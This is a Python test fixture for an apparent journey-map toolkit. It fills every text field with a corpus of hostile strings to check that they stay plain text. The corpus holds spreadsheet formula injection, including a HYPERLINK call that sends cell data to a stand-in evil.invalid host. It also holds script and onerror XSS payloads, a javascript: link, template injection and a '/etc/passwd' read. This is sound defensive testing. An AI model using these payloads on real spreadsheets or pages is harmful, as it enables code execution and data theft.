"""What a client or a customer may write and must stay text, in every field and every format."""

import datetime as dt
from collections.abc import Sequence

from cxkit.steps.base import Mark
from cxkit.steps.journey_view import ActivityView, IrritantView, JourneyMapView, PersonaCard, StageView

from .sample_map import SOLID

CORPUS = (
    "=cmd|' /C calc'!A1",
    '=HYPERLINK("https://evil.invalid/?x="&A1,"ok")',
    "+33 6 12 34 56 78",
    "\t=1+1",
    "</script><script>window.__X5=1</script>",
    '<img src=x onerror="window.__X2=1">',
    "[clic](javascript:window.__X4=1)",
    '<button data-commandlinker-command="terminal:create-new">',
    "{{7*7}}",
    '#read("/etc/passwd") $1/0$ @ref',
    "prix $10 et $20",
)


def hostile_map(texts: Sequence[str] = CORPUS) -> JourneyMapView:
    """A map whose every text field holds one of ``texts``, in turn."""
    turn = iter(range(10**6))

    def say() -> str:
        return texts[next(turn) % len(texts)]

    def activity(at: int) -> ActivityView:
        return ActivityView(
            id=f"a{at}", action=say(), when="before", touchpoint="t", touchpoint_name=say(), channel=say(), thought=say(), need=say(),
            expected=(say(),), asked=(say(),), transmitted=(say(),), emotion=say(), point=SOLID, mark=Mark(kind="measured", n=9),
            moment_of_truth=True, decision=True, irritants=(IrritantView(text=say(), severity=2, kind="reported"),), delights=(say(),),
            opportunities=(say(),), owner=say(), owner_name=say(), back_stage=(say(),),
        )  # fmt: skip

    return JourneyMapView(
        title=say(), client=say(), kind="as-is", version=say(), date=dt.date(2026, 3, 1), sample=(Mark(kind="measured", n=812),),
        persona=PersonaCard(id="p", name=say(), tagline=say(), quote=say(), share=0.1, n=99),
        stages=tuple(StageView(id=f"s{at}", name=say(), goal=say(), activities=(activity(at), activity(at + 50))) for at in range(4)),
    )  # fmt: skip
